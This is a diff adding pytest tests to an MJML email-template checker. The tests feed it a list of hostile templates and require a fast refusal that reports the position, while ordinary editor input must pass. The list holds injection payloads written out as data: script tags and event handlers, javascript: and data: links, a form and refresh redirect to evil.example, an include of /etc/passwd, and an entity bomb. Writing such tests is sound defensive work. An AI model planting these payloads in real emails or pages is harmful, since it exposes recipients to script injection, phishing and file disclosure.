@@ -156,3 +156,48 @@ def test_the_commands_say_where(app, tmp_path):
     assert (answer.exit_code, answer.output) == (1, f"{bad}:3:1: unknown element <mj-txt>\n")
     assert "Ciao" in runner.invoke(args=["mjml", "render", str(good)]).output
     assert runner.invoke(args=["mjml", "render", str(bad)]).exit_code == 1
+
+
+HOSTILE = {
+    "nested tags": text("<div>" * 12_000),
+    "nested sections": "<mjml><mj-body>" + "<mj-section>" * 12_000,
+    "5 MB": text("x" * 5_000_000),
+    "an include of itself": mail('<mj-include path="./self.mjml" />'),
+    "an include in the head": mail("", '<mj-include path="/etc/passwd" type="css" />'),
+    "script": text("<ScRiPt src=//evil.example/x.js></ScRiPt>"),
+    "script in raw": mail("<mj-raw><script>alert(1)</script></mj-raw>"),
+    "svg": text("<svg onload=alert(1)>"),
+    "a handler": mail('<mj-button href="https://own.example/" onmouseover="alert(1)">x</mj-button>'),
+    "javascript": mail('<mj-button href=" java\nscript:alert(1)">x</mj-button>'),
+    "a data document": mail('<mj-button href="data:text/html;base64,PHNjcmlwdD4=">x</mj-button>'),
+    "a form": text('<form action="https://evil.example/"><input name="p"></form>'),
+    "a refresh": mail(
+        "", '<mj-raw><meta http-equiv="refresh" content="0; url=//evil.example"><base href="//e"></mj-raw>'
+    ),
+    "a font": mail("", '<mj-font name="x" href="https://evil.example/f.css" />'),
+    "a background": mail('<mj-text css-class="x" style="background:url(//evil.example/p.gif)">x</mj-text>'),
+    "an unknown tag": mail("<mj-blink>x</mj-blink>"),
+    "no end": "<mjml><mj-body><mj-section",
+    "an entity bomb": '<!DOCTYPE lolz [<!ENTITY lol "lol">]>' + text("&lol;"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_template_is_refused_with_its_place_and_in_a_moment(name):
+    began = time.process_time()
+    found = check(HOSTILE[name], hosts=["own.example"])
+    assert time.process_time() - began < 5
+    errors = [p for p in found if p.level == "error"]
+    assert errors
+    assert all(p.line >= 1 and p.column >= 1 and p.message for p in found)
+    with pytest.raises(MjmlProblem):
+        mjml.render_guarded(HOSTILE[name], hosts=["own.example"])
+
+
+@pytest.mark.parametrize("source", [
+    text("Ciao").replace("\n", "\r\n"), text("Ciao").replace("\n", "\r"), "\ufeff" + text("Ciao"),
+    text("Ciao\x0b\x00\x1f"), text("Ciao &nbsp; &eacute; 🧵"),
+])  # fmt: skip
+def test_what_a_textarea_or_an_editor_puts_in_does_no_harm(source):
+    assert [p for p in check(source) if p.level == "error"] == []
+    assert "Ciao" in mjml.render_guarded(source)
